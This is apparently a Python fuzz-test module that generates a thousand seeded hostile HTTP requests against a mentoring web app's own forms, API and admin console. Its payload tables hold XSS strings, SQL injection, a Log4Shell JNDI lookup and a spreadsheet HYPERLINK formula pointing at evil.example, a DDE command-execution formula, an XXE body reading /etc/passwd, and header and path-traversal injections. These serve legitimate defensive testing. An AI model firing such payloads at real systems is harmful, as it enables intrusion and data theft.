"""A thousand requests that no page of ours makes, from one seed: the same ones each time."""

import gzip
import json
from collections.abc import Callable, Iterator
from functools import partial
from random import Random
from urllib.parse import quote_from_bytes, urlencode

from functions.programme import questionnaire
from functions.web.guards import CSRF_FIELD
from functions.web.questions import REQUEST_FIELD, VERSION_FIELD
from tests.fuzz.fixtures import Fields, Form, FuzzedSite, Submission

FORM = "application/x-www-form-urlencoded"
FORMULAE = (
    '=HYPERLINK("http://evil.example","Prize")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\uff1d1+1",
    " =cmd|' /C calc'!A0",
    "\u200b=1",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% raise %}",
    "</textarea><script>alert(2)</script>",
    "javascript:alert(3)",
    "${jndi:ldap://evil.example}",
    "'; DROP TABLE kith; --",
)
TEXTS = (
    *FORMULAE,
    *SCRIPTS,
    "\x00",
    "a\x00b",
    "Ada\r\nBcc: everybody@people.example",
    "\u202etxt.exe",
    "\ufeff\u200b\u2060",
    "Z" + "\u0301" * 500,
    "\U0001f9d1\u200d\U0001f393" * 40,
    "x" * 5000,
    " " * 400,
    "\u2028\u2029",
    "../../etc/passwd",
    "None",
    "\ufffe\uffff",
)
NUMBERS = (
    "9" * 5000,
    "1e309",
    "-1",
    "0",
    "NaN",
    "Infinity",
    "\u0663",
    "\uff13",
    "3.0",
    "0x10",
    "1_000",
    "٣" * 50,
    "+2",
    "2 ",
    str(2**63),
)
BYTES = (
    b"%ED%A0%80",
    b"%ED%A0%BD%ED%B8%80",
    b"%FF%FE",
    b"\xff\xfe\x00",
    b"%00",
    b"%C0%AF",
    b"%F5%80%80%80",
    b"%",
    b"%zz",
    b"\x80abc",
)
JSON_BODIES = (
    b"[" * 10_000,
    b'{"policy":' * 3000,
    b'{"policy": "\\ud800"}',
    b'{"policy": "a\\u0000b"}',
    b'{"policy": "one-to-one", "policy": "network"}',
    b'{"policy": NaN}',
    b'{"policy": 1e999}',
    b'{"policy": ' + b"9" * 6000 + b"}",
    b'{"policy": []}',
    b'{"policy": {"a": 1}}',
    b'{"policy": true}',
    b'{"unknown": 1}',
    b"null",
    b"[]",
    b'"text"',
    b"",
    b"{",
    b"\xff\xfe{\x00}\x00",
    b'{"policy": "' + b"x" * 33_000 + b'"}',
    b'{"seed": -1, "locked": [["a", "b"]]}',
    json.dumps({"policy": FORMULAE[0]}).encode(),
)
HEADERS = (
    {"Content-Length": "-1"},
    {"Content-Length": "99999999999"},
    {"Content-Length": "abc"},
    {"Content-Length": ""},
    {"Transfer-Encoding": "chunked"},
    {"Content-Encoding": "gzip"},
    {"Host": "evil.example"},
    {"Host": "kith.example\r\nX: y"},
    {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "http"},
    {"X-HTTP-Method-Override": "DELETE"},
    {"Cookie": "kith=" + "x" * 4000 + "; __Host-kith=\xff; a=b=c;;;="},
    {"Accept-Language": "xx-" + "y" * 3000 + ";q=nan, ../..;q=2"},
    {"Accept": "application/xml;q=" + "9" * 300},
    {"Range": "bytes=0-,5-1,-"},
    {"If-None-Match": '"', "If-Modified-Since": "yesterday"},
    {"Origin": "null", "Sec-Fetch-Site": "cross-site"},
    {"Referer": "javascript:alert(1)"},
    {"Authorization": "Bearer"},
    {"Authorization": "Basic \xff\xfe"},
    {"X-Forwarded-For": "1.2.3.4, \x00"},
)
SEGMENTS = (
    "..",
    ".",
    "%2e%2e",
    "\x00",
    "\xff\xfe",
    "a" * 4000,
    ";x=1",
    "mentee\r\nX-Injected: 1",
    "<script>alert(1)</script>",
    "'\"",
    "\xed\xa0\x80",
    "{cohort_id}",
    "//evil.example/",
    "COM1",
    " ",
    "*",
)
METHODS = ("PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "OPTIONS", "HEAD", "BREW", "get", "")


def submissions(ground: FuzzedSite, seed: int, count: int) -> Iterator[Submission]:
    """Return that many, each kind in turn."""
    chance = Random(seed)  # noqa: S311 - the same submissions each time
    for number in range(count):
        yield KINDS[number % len(KINDS)](ground, chance, number)


def with_words(ground: FuzzedSite, form: Form, words: str) -> Submission:
    """Return a sensible submission that has these words wherever people write what they like."""
    free = {
        question.name
        for question in form.questionnaire.questions
        if question.kind is questionnaire.Kind.LONG_TEXT
    }
    sensible = ground.sensible(form.questionnaire, 0, Random(0))  # noqa: S311 - the same each time
    fields = [(name, words if name in free else value) for name, value in sensible]
    return _sent(form, "words", fields, [])


def _encoded(fields: Fields) -> bytes:
    return urlencode(fields, errors="replace").encode()


def _sent(form: Form, what: str, fields: Fields, kept: Fields, **headers: str) -> Submission:
    return Submission(
        what=what,
        path=form.path,
        body=_encoded(fields),
        headers={"Content-Type": FORM, **headers},
        kept=tuple(kept),
    )


def _changed(
    ground: FuzzedSite, chance: Random, number: int, what: str, values: tuple[str, ...]
) -> Submission:
    """Put one of the values where an answer was."""
    form = chance.choice(ground.forms)
    fields = ground.sensible(form.questionnaire, number, chance)
    name = chance.choice([name for name, _ in fields if name != VERSION_FIELD])
    others = [(each, value) for each, value in fields if each != name]
    return _sent(form, what, [*others, (name, chance.choice(values))], others)


def _in_every_text(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    """Put hostile text into each text: as it may be kept, it comes back in mails, pages and files."""
    form = chance.choice(ground.forms)
    fields = [
        (name, chance.choice((*FORMULAE, *SCRIPTS)) if value.isprintable() and " " in value else value)
        for name, value in ground.sensible(form.questionnaire, number, chance)
    ]
    return _sent(form, "text", fields, [])


def _with_bytes(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    form = chance.choice(ground.forms)
    fields = ground.sensible(form.questionnaire, number, chance)
    name, others = fields[0][0], fields[1:]
    body = _encoded(others) + b"&" + name.encode() + b"=" + chance.choice(BYTES)
    body += b"&" + chance.choice(BYTES) + b"=x" if chance.random() < 0.3 else b""
    return Submission(what="bytes", path=form.path, body=body, headers={"Content-Type": FORM})


def _added(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    """Send keys twice, a hundred times, or that nobody asked for."""
    form = chance.choice(ground.forms)
    fields = ground.sensible(form.questionnaire, number, chance)
    again = chance.choice(fields)
    more = chance.choice(
        (
            [again],
            [again] * 100,
            [("unknown", "x")],
            [(f"{again[0]}.{place}", again[1]) for place in range(9)],
            [(again[0] + "[]", again[1])],
            [("__proto__", "x"), ("constructor", "x")],
            [("is_mentor", "true"), ("state", "confirmed"), ("id", "1"), ("cohort_id", ground.ended.id)],
            [(f"f{each}", "x") for each in range(400)],
            [("", "nameless")],
            [(CSRF_FIELD, "x"), (VERSION_FIELD, "x"), (REQUEST_FIELD, "k" * 4000)],
        )
    )
    touched = {name for name, _ in more}
    return _sent(form, "keys", [*fields, *more], [each for each in fields if each[0] not in touched])


def _too_large(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    form = chance.choice(ground.forms)
    fields = ground.sensible(form.questionnaire, number, chance)
    size = chance.choice((32_769, 40_000, 200_000))
    return _sent(form, "size", [*fields, (fields[0][0], "x" * size)], [])


def _another_version(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    form = chance.choice(ground.forms[:2])
    fields = ground.sensible(form.questionnaire, number, chance)[:-1]
    version = chance.choice(("", "older", "0" * 16, "x" * 9000, "\x00", SCRIPTS[0]))
    return _sent(form, "version", [*fields, (VERSION_FIELD, version)], fields)


def _another_cohort(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    form = chance.choice(ground.forms[:2])
    cohort = chance.choice((ground.ended.id, "no-such-cohort", "x" * 64, "x" * 65, "..", SEGMENTS[4]))
    path = form.path.replace(ground.cohort.id, cohort)
    fields = ground.sensible(form.questionnaire, number, chance)
    return Submission(what="cohort", path=path, body=_encoded(fields), headers={"Content-Type": FORM})


def _left_out(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    form = chance.choice(ground.forms)
    fields = ground.sensible(form.questionnaire, number, chance)
    kept = chance.sample(fields, k=chance.randrange(len(fields)))
    left = {name for name, _ in fields} - {name for name, _ in kept}
    whole = [each for each in fields if each in kept]
    return _sent(form, "missing", whole, [each for each in whole if each[0] not in left])


def _multipart(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    form = chance.choice(ground.forms)
    fields = ground.sensible(form.questionnaire, number, chance)
    parts = [
        f'--edge\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in fields
    ]
    whole = "".join(parts).encode()
    kind, body = chance.choice(
        (
            ("multipart/form-data; boundary=edge", whole + b"--edge--\r\n"),
            ("multipart/form-data; boundary=edge", whole[: len(whole) // 2]),
            ("multipart/form-data; boundary=edge", whole),
            ("multipart/form-data", whole),
            ("multipart/form-data; boundary=other", whole),
            ("multipart/form-data; boundary=" + "b" * 300, whole),
            ('multipart/form-data; boundary=""', whole),
            ("multipart/form-data; boundary=edge", whole.replace(b'; name="', b'; filename="x.exe"; name="')),
            ("multipart/form-data; boundary=edge", b'--edge\r\nContent-Disposition: form-data; name="'),
            ("multipart/form-data; boundary=edge", b"--edge\r\n\r\nx\r\n" * 1000 + b"--edge--"),
            (
                "multipart/form-data; boundary=edge",
                whole.replace(b"\r\n\r\n", b"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n"),
            ),
            ("multipart/mixed; boundary=edge", whole + b"--edge--\r\n"),
        )
    )
    return Submission(what="multipart", path=form.path, body=body, headers={"Content-Type": kind})


def _charset(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    form = chance.choice(ground.forms)
    fields = ground.sensible(form.questionnaire, number, chance)
    text = _encoded(fields).decode()
    kind, body = chance.choice(
        (
            (f"{FORM}; charset=utf-16", text.encode("utf-16")),
            (f"{FORM}; charset=utf-7", text.encode("utf-7")),
            (f"{FORM}; charset=no-such", text.encode()),
            (f"{FORM}; charset=\xff", text.encode()),
            ("text/plain", text.encode()),
            ("", text.encode()),
            ("application/json", text.encode()),
            ("application/json", json.dumps(dict(fields)).encode()),
            ("application/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
            ("x" * 3000, text.encode()),
            (FORM.upper(), text.encode("latin-1", "replace")),
            (FORM, gzip.compress(text.encode())),
        )
    )
    return Submission(what="charset", path=form.path, body=body, headers={"Content-Type": kind})


def _headers(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    form = chance.choice(ground.forms)
    fields = ground.sensible(form.questionnaire, number, chance)
    return _sent(form, "headers", fields, [], **chance.choice(HEADERS))


def _json(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    path = f"/api/v1/cohorts/{chance.choice((ground.cohort.id, 'none', SEGMENTS[3]))}/runs"
    kind = chance.choice(("application/json", "application/json", "text/plain", "application/json;charset=x"))
    headers = {
        "Content-Type": kind,
        "Authorization": f"Bearer {ground.bearer}",
        "Idempotency-Key": chance.choice((f"key-{number}", "", "k" * 300, "\x00", "\xff")),
    }
    return Submission(what="json", path=path, body=chance.choice(JSON_BODIES), headers=headers)


def _machine(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    """Call any route of the API with a token that doesn't fit, or an ETag that is none."""
    method, rule = chance.choice([each for each in ground.rules if each[1].startswith("/api/")])
    token = chance.choice(
        (ground.bearer, ground.other_bearer, ground.bearer[:-1], "x" * 5000, "\xff", "", ground.session)
    )
    headers = {
        "Authorization": f"{chance.choice(('Bearer', 'bearer', 'Token', 'Basic'))} {token}",
        "If-Match": chance.choice(('"0"', "*", '"', '"' + "9" * 400 + '"', 'W/"1"', "\xff")),
        "Idempotency-Key": f"machine-{number}",
        "Content-Type": "application/json",
    }
    path = ground.filled_in(rule, chance, run_id=chance.choice(SEGMENTS))
    return Submission(what="machine", path=path, method=method, body=b"{}", headers=headers)


def _token(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    """Knock with a link that was cut, bent, or made for another page."""
    method, rule = chance.choice([each for each in ground.rules if "<" in each[1] and "token" in each[1]])
    page = chance.choice(sorted(ground.tokens))
    right = chance.choice(ground.tokens[page])
    token = chance.choice(
        (
            right,
            right[:-1],
            right + "A",
            right[::-1],
            right.lower(),
            right + "/",
            right + "\x00",
            "\xff",
            "x" * 64,
            "x" * 65,
            "..",
        )
    )
    path = ground.filled_in(rule, chance, token=token)
    fields = [("answer", chance.choice(TEXTS)), ("met_on-day", chance.choice(NUMBERS)), (str(number), "x")]
    headers = {"Content-Type": FORM, "Sec-Fetch-Site": chance.choice(("same-origin", "cross-site", "\xff"))}
    return Submission(what="token", path=path, method=method, body=_encoded(fields), headers=headers)


def _path(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    method, rule = chance.choice(ground.rules)
    path = ground.filled_in(rule, chance)
    parts = path.split("/")
    parts[chance.randrange(len(parts))] = chance.choice(SEGMENTS)
    query = quote_from_bytes(chance.choice(TEXTS).encode()) + "&" + chance.choice(BYTES).decode("latin-1")
    return Submission(
        what="path",
        path=chance.choice(("", "/", "//", "/ar", "/xx")) + "/".join(parts),
        method=method,
        query=query,
        body=f"n={number}".encode(),
        headers={"Content-Type": FORM},
    )


def _method(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    _, rule = chance.choice(ground.rules)
    fields = [("n", str(number))]
    return Submission(
        what="method",
        path=ground.filled_in(rule, chance),
        method=chance.choice(METHODS),
        body=_encoded(fields),
        headers={"Content-Type": FORM},
    )


def _console(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    """Press the console's buttons: without a session, from elsewhere, with words that no page sends."""
    rules = [each for each in ground.rules if each[1].startswith("/console/") and "token" not in each[1]]
    method, rule = chance.choice(rules)
    known = chance.choice(({}, {"cohort_id": ground.ended.id}, {"cohort_id": chance.choice(SEGMENTS)}))
    headers = chance.choice(
        (
            ground.signed_in,
            ground.signed_in,
            {**ground.signed_in, "Sec-Fetch-Site": "cross-site"},
            {"Cookie": f"__Host-kith={'x' * 43}"},
            {},
        )
    )
    fields = [
        (CSRF_FIELD, chance.choice((ground.csrf, ground.csrf, "wrong", "\u0663"))),
        *((name, chance.choice((*TEXTS, *NUMBERS))) for name in ("policy", "reason", "accept", "version")),
        (f"field-{number}", "x"),
    ]
    return Submission(
        what="console",
        path=ground.filled_in(rule, chance, **known),
        method=method,
        query=urlencode([("page", chance.choice(NUMBERS)), ("q", chance.choice(FORMULAE))]),
        body=_encoded(fields),
        headers={"Content-Type": FORM, **headers},
    )


def _pages(ground: FuzzedSite, chance: Random, number: int) -> Submission:
    """Send odd words to any page that takes some and asks for no link and no session."""
    rules = [
        rule
        for method, rule in ground.rules
        if method == "POST" and not rule.startswith(("/api/", "/console/")) and "token" not in rule
    ]
    names = ("email", "role", "what", "purpose", "name", "answer", VERSION_FIELD, f"n{number}")
    fields = [(name, chance.choice((*TEXTS, "ada@people.example", "mentee"))) for name in names]
    path = ground.filled_in(chance.choice(rules), chance)
    return Submission(what="page", path=path, body=_encoded(fields), headers={"Content-Type": FORM})


Kind = Callable[[FuzzedSite, Random, int], Submission]
KINDS: tuple[Kind, ...] = (
    partial(_changed, what="type", values=("no-such-choice", "[]", "{}", "true", "on", "")),
    partial(_changed, what="text", values=TEXTS),
    partial(_changed, what="number", values=NUMBERS),
    _in_every_text,
    _with_bytes,
    _added,
    _too_large,
    _another_version,
    _another_cohort,
    _left_out,
    _multipart,
    _charset,
    _headers,
    _json,
    _machine,
    _token,
    _path,
    _method,
    _console,
    _pages,
    # Again: they cost little, and there are many doors.
    _another_cohort,
    _json,
    _machine,
    _token,
    _path,
)
